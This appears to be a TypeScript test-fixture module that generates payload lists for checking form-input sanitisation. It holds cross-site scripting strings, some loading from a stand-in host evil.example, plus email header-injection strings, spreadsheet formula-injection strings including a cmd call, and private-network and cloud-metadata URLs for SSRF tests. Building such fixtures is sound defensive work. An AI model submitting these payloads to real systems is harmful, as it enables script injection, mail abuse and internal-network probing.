/** Attackers' texts for forms; each list is made from parts, so that positions vary. */

const scripts = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '</td></tr></table><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  '<a href="javascript:alert(1)">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<link rel=stylesheet href=https://evil.example>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href=https://evil.example>',
  '<form action=https://evil.example><button>x</button></form>',
  '<textarea></textarea><script>alert(1)</script>',
  '\u202e<script>\u2066alert(1)',
]
const around = [
  (text: string) => text,
  (text: string) => `Amna ${text}`,
  (text: string) => `${text} Khan`,
  (text: string) => `a\n${text}\nb`,
  (text: string) => text.toUpperCase(),
  (text: string) => `\0${text}`,
  (text: string) => `${text}${text}`,
  (text: string) => text.replaceAll('<', '<\t'),
  (text: string) => `{{${text}}}`,
  (text: string) => `"'>${text}`,
]

/** 200 texts that run, load or close something when they are not escaped. */
export const scriptPayloads = scripts.flatMap((script) => around.map((wrap) => wrap(script)))

const breaks = ['\r\n', '\n', '\r', '\r\n ', '\n\t', '\u0085', '\u2028', '\v', '\0\r\n', '%0d%0a']
const headers = [
  'Bcc: victim@example.org',
  'Cc: victim@example.org',
  'To: victim@example.org',
  'From: boss@example.org',
  'Subject: other',
  'Reply-To: victim@example.org',
  'Content-Type: text/html',
  'X-Injected: yes',
  '\r\n<script>alert(1)</script>',
  'RCPT TO:<victim@example.org>',
]
const addresses = [
  (tail: string) => `amna@example.com${tail}`,
  (tail: string) => `${tail}amna@example.com`,
  (tail: string) => `"${tail}"@example.com`,
  (tail: string) => `Amna <amna@example.com>${tail}`,
  (tail: string) => `amna@example.com, victim@example.org${tail}`,
]

/** 500 emails and names that add a header or a recipient when they are not sanitized. */
export const headerPayloads = breaks.flatMap((line) =>
  headers.flatMap((header) => addresses.map((address) => address(`${line}${header}`))),
)

const formulas = [
  '=1+1',
  '=cmd|"/c calc"!A1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '=HYPERLINK("https://evil.example","x")',
  '\t=1+1',
  '\r=1+1',
  '=',
  '-',
]
const before = ['', ' ', '\n', '\r\n', '\u00a0', '\ufeff', '"', "'", ',', ';']
const after = ['', '"\n=1+1']

/** 200 texts that a spreadsheet evaluates as formulas when they are not escaped. */
export const formulaPayloads = formulas.flatMap((formula) =>
  before.flatMap((head) => after.map((tail) => `${head}${formula}${tail}`)),
)

/** 40 URLs of private networks. */
export const privateUrls = [
  'http://127.0.0.1/',
  'http://127.1/',
  'http://2130706433/',
  'http://0x7f000001/',
  'http://0177.0.0.1/',
  'http://0/',
  'http://0.0.0.0/',
  'http://localhost/',
  'http://localhost./',
  'http://LOCALHOST/',
  'http://[::1]/',
  'http://[::]/',
  'http://[::ffff:127.0.0.1]/',
  'http://[::ffff:7f00:1]/',
  'http://[0:0:0:0:0:0:0:1]/',
  'http://[fe80::1]/',
  'http://[fc00::1]/',
  'http://[fd12:3456::1]/',
  'http://[ff02::1]/',
  'http://[64:ff9b::7f00:1]/',
  'http://[2002:7f00:1::]/',
  'http://[::127.0.0.1]/',
  'http://10.0.0.1/',
  'http://10.255.255.255/',
  'http://172.16.0.1/',
  'http://172.31.255.1/',
  'http://192.168.0.1/',
  'http://192.168.1.254/',
  'http://169.254.169.254/latest/meta-data/',
  'http://169.254.0.1/',
  'http://100.64.0.1/',
  'http://192.0.0.1/',
  'http://198.18.0.1/',
  'http://224.0.0.1/',
  'http://255.255.255.255/',
  'http://240.0.0.1/',
  'http://127.0.0.2:8080/',
  'http://user:password@127.0.0.1/',
  'https://127.0.0.1:443/',
  'http://①②⑦.0.0.1/',
]
